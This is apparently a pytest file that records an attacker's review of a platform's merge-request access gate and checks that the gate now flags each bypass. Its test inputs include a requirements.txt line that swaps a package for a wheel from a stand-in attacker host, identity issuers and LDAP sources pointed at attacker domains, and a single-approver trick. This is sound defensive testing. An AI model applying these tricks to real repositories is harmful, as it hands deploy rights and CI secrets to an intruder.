"""An attacker's review of the access gate (`platformctl access`): what it compares, and what its process runs.

The attacker is a Developer of the platform project who opens merge requests a maintainer merges once
their pipeline passes. The gate must ask a system approver for every change that widens who may do what
beyond one tenant; each test below shows a change the gate let through without one on `main`.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any, Callable

import pytest
import yaml

from gitlab_stub import client_env, run_in_process
from platformctl.access import CLUSTER_ADMIN_RULE, SYSTEM_RULE, Approvals, Changes, Members, SystemChange, compare, report
from platformctl.render import Render
from tests.git_repo import git
from tests.test_access import _access, _changes, _document, _edit, _members, _stub_with_push
from tests.test_bot_attacks import _commit, _origin

AUTHORS_PROJECT = "mallory-lab/deploy"  # a project in a group of the author's own: they protect its main and run it


def _identity(doc: dict[str, Any]) -> dict[str, Any]:
    return doc["config"]["platform:identity"]


def _ldap(doc: dict[str, Any]) -> None:
    _identity(doc).pop("oidc")
    _identity(doc)["ldap"] = {"url": "ldaps://ldap.attacker.example", "bindDn": "cn=gate", "bindPassword": {"secure": "v1:any"},
                              "searchBase": "dc=attacker,dc=example"}


# Each: the edit, and the change the gate must report (cluster_admins: it decides who is a cluster admin or who deploys).
TRUST_EDITS: dict[str, tuple[Callable[[dict[str, Any]], Any], SystemChange]] = {
    # Vault's platform-deploy login (platform-admin) and the AWS deploy role take jobs of this project's main;
    # the merge-request bot serves this project's pipelines.
    "pipeline-project": (lambda doc: doc["config"].update({"platform:pipeline": {"projectPath": AUTHORS_PROJECT}}),
                         SystemChange("dev", "changes pipeline.projectPath", cluster_admins=True)),
    # The identity source vouches for who a person is and which groups they are in: identity.clusterAdmins' too.
    "oidc-issuer": (lambda doc: _identity(doc)["oidc"].update(issuer="https://login.attacker.example/realms/any"),
                    SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    "oidc-groups-claim": (lambda doc: _identity(doc)["oidc"].update(groupsClaim="nickname"),  # a claim people set themselves
                          SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    "oidc-user-claim": (lambda doc: _identity(doc)["oidc"].update(userClaim="email"),
                        SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    "ldap-source": (_ldap, SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    # Every GitLab account's confirmed address (components/platform_users.py): where its notifications go.
    "email-domain": (lambda doc: _identity(doc).update(emailDomain="attacker.example"),
                     SystemChange("dev", "changes identity.emailDomain")),
}


@pytest.mark.parametrize("name", TRUST_EDITS)
def test_a_change_of_who_deploys_or_who_is_who_needs_a_system_approver(tmp_path: Path, name: str) -> None:
    """Was open on `main`: the gate compared `identity.clusterAdmins` and `identity.systemApprovers` and
    nothing else outside the tenants. A merge request that pointed `pipeline.projectPath` at a project of the
    author's own had its main's jobs log in to Vault as platform-admin after deploy-dev (and assume the AWS
    deploy role on EKS stacks); one that pointed `identity.oidc` at an issuer of the author's (or its groups claim at a claim
    people set themselves) let that issuer say who is in `platform-admins`: both passed with nothing to approve."""
    edit, expected = TRUST_EDITS[name]
    changes = _changes(tmp_path, edit)
    assert changes.requests == [] and changes.new_tenants == []
    if name == "ldap-source":  # the source switched: the oidc settings go, ldap's come
        expected = [expected, SystemChange("dev", "changes identity.ldap", cluster_admins=True)]
    assert changes.system == (expected if isinstance(expected, list) else [expected])


def test_the_same_trust_settings_in_another_order_need_no_approval(tmp_path: Path) -> None:
    """Lists whose order means nothing (groups, scopes) are compared in a canonical order: only a real change asks."""
    def settings(scopes: list[str], groups: list[str]) -> tuple[Members, dict[str, str]]:
        doc = _document("dev")
        _identity(doc)["oidc"]["scopes"], _identity(doc)["clusterAdmins"] = scopes, groups
        return _members(doc, tmp_path)

    (base, base_raw), (head, head_raw) = (settings(["openid", "email", "groups"], ["platform-admins", "night-shift"]),
                                          settings(["groups", "email", "openid"], ["night-shift", "platform-admins"]))
    changes = Changes()
    compare("dev", base, head, changes, base_raw, head_raw)
    assert changes.system == []


def test_the_trust_settings_are_what_the_plan_trusts(renders: dict[str, Render]) -> None:
    """Why those keys are access (the dev plan, as rendered): the Vault login that holds platform-admin binds
    the project `pipeline.projectPath` names, OpenUnison signs in whomever `identity.oidc`'s issuer vouches
    for, and every GitLab account's confirmed address is at `identity.emailDomain`."""
    plan, doc = renders["dev"].plan["resources"], _document("dev")["config"]
    [deploy] = [r["inputs"] for r in plan if r["type"] == "vault:jwt/authBackendRole:AuthBackendRole" and r["name"] == "platform-deploy"]
    assert "platform-admin" in deploy["tokenPolicies"]
    assert deploy["boundClaims"]["project_path"] == doc.get("platform:pipeline", {}).get("projectPath", "platform/platform-bootstrap")
    issuers = {r["inputs"]["values"]["oidc"]["issuer"] for r in plan if r["type"] == "kubernetes:helm.sh/v3:Release"
               and "oidc" in r["inputs"].get("values", {}) and "issuer" in r["inputs"]["values"]["oidc"]}
    assert issuers == {doc["platform:identity"]["oidc"]["issuer"]}
    emails = {r["inputs"]["email"].partition("@")[2] for r in plan if r["type"] == "gitlab:index/user:User"}
    assert emails == {doc["platform:identity"]["emailDomain"]}


# --- what the gate's process runs: its dependencies -----------------------------------------------


PINNED = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9.+!-]+$")


def test_a_merge_request_that_changes_the_gates_dependencies_needs_a_system_approver(tmp_path: Path) -> None:
    """Was open on `main`: the bot installs the gate's venv from the gate commit's requirements.txt
    (components/merge-request-bot.gitlab-ci.yml), and the gate runs with PLATFORM_MR_TOKEN in its
    environment; any package there runs code in its process (a `.pth` file runs at start). A merge request
    that swapped python-gitlab for a wheel of the author's passed with nothing to approve; merged, the next
    merge request's gate (and the bot's own venv, main's requirements.txt) runs that wheel."""
    from components.merge_request_bot import bot_pipeline
    from tests.test_ci_file import _lines, _resolve

    script = _lines(_resolve(yaml.safe_load(bot_pipeline("platform/platform-bootstrap")), "bot")["script"])
    assert "$CI_PROJECT_DIR/gate/bin/pip install --quiet -r build/gate/requirements.txt" in script  # the gate's own file
    repo = tmp_path / "repo"
    repo.mkdir()
    base = _origin(repo)
    requirements = (repo / "requirements.txt").read_text()
    (repo / "requirements.txt").write_text(requirements.replace(
        "python-gitlab==8.6.0", "python-gitlab @ https://attacker.example/python_gitlab-8.6.0-py3-none-any.whl"))
    _commit(repo, "bump python-gitlab")
    with _stub_with_push() as stub:
        done = run_in_process(["access", "--no-validate", "--base-ref", base, "--mr-iid", str(stub.mr_iid)], repo, client_env(stub))
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "| all | changes the access check (requirements.txt) | ❌ waiting for a system approver" in done.stdout, done.stdout


def test_the_gates_requirements_name_no_other_file() -> None:
    """pip reads what requirements.txt includes (`-r`, `-c`), a local path or a URL it names: each would be
    the gate's too without being a gate file. So requirements.txt holds exact pins and comments only."""
    root = Path(__file__).resolve().parent.parent
    lines = [line.split("#", 1)[0].strip() for line in (root / "requirements.txt").read_text().splitlines()]
    assert [line for line in lines if line and not PINNED.match(line)] == []


# --- what the gate cannot read ----------------------------------------------------------------------


@pytest.mark.parametrize(("key", "at_base"), [("platform:identity", True), ("platform:pipeline", True), ("platform:tenants", False)])
def test_a_setting_the_gate_reads_may_not_be_a_secret_as_a_whole(repo: Path, key: str, at_base: bool) -> None:
    """Was open on `main`: Pulumi hands the program a key set with `pulumi config set --secret` decrypted, and
    the program parses it as any other (stacks/config.py `_parse`), but the gate (and the offline render, which
    refuses it: the bot's gate does not validate, and a branch's render is its own code) sees a placeholder. With
    `platform:identity` a secret at the base and at the head (two ciphertexts), a change of clusterAdmins read
    the same to the gate on both sides: nothing to approve. (A secret `platform:tenants` crashed it: exit 1.)
    Whoever can encrypt for the stack is the attacker here; secret leaves (`identity.oidc.clientSecret`) stay."""
    def secret(ciphertext: str) -> Callable[[dict[str, Any]], None]:
        return lambda doc: doc["config"].update({key: {"secure": ciphertext}})

    if at_base:
        _edit(repo, "dev", secret("v1:AAAA-as-it-was"))
        git(repo, "commit", "--quiet", "-am", f"{key} as a secret")
    _edit(repo, "dev", secret("v1:BBBB-the-admins-of-the-author"))
    result = _access(repo, client_env(None), "--no-validate")  # as the bot runs it: the base's code, the head's files
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert (f"Pulumi.dev.yaml: {key} is a secret as a whole, which the access check cannot read; allowed: "
            f"secret values inside it") in result.stderr, result.stderr


def test_a_base_whose_tenants_are_a_secret_is_an_error_not_a_crash(repo: Path) -> None:
    """A base the gate cannot read (written before the check refused it) stops the check with a clear error."""
    _edit(repo, "dev", lambda doc: doc["config"].update({"platform:tenants": {"secure": "v1:AAAA"}}))
    git(repo, "commit", "--quiet", "-am", "tenants as a secret")
    _edit(repo, "dev", lambda doc: doc["config"].update({"platform:tenants": _document("dev")["config"]["platform:tenants"]}))
    result = _access(repo, client_env(None), "--no-validate")
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "platform:tenants[0] is not a tenant with a name and role lists" in result.stderr, result.stderr


# --- who approves ------------------------------------------------------------------------------------


def test_a_second_cluster_admin_is_a_second_person(tmp_path: Path) -> None:
    """Was open on `main`: a change of clusterAdmins (or, now, of the identity source or of who deploys) needs a
    system approver and "a cluster admin other than the author". Mallory, in both groups, pushes the change
    onto Bob's open merge request (a Developer may push to another's branch) and approves it once: GitLab counts
    one approval in every rule its user is eligible for (ee/app/models/approval_wrapped_rule.rb
    `approved_approvers`: the rule's approvers among the merge request's approvals), and Bob is the author.
    One person sufficed. The cluster admin must be someone other than the author and the system approver."""
    changes = _changes(tmp_path, lambda doc: _identity(doc)["clusterAdmins"].append("mallorys-friends"))
    mallory = {SYSTEM_RULE: {"mallory"}, CLUSTER_ADMIN_RULE: {"mallory"}}
    text, approved = report(changes, Approvals({"mallory"}, mallory, author="bob"), "merge request !7")
    assert not approved, text
    assert "waiting for a cluster admin other than the author and the system approver (rule cluster-admins)" in text
    # A second person in either role completes it.
    for rules in ({SYSTEM_RULE: {"mallory", "sam"}, CLUSTER_ADMIN_RULE: {"mallory"}},
                  {SYSTEM_RULE: {"mallory"}, CLUSTER_ADMIN_RULE: {"mallory", "kim"}}):
        text, approved = report(changes, Approvals({"mallory", "sam", "kim"}, rules, author="bob"), "merge request !7")
        assert approved, text
